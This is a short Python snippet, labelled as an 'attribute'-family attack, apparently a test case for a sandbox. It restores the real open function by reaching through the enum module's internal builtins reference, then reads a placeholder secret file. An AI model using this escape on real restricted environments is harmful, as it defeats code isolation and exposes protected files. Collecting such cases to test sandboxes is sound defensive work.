# attack: puts the true open back into the builtins that it was given
# family: attribute
import enum
__builtins__["open"] = (lambda module: module.bltns)(enum).open
print("REACHED", open)
print(open("$SECRET_FILE").read())
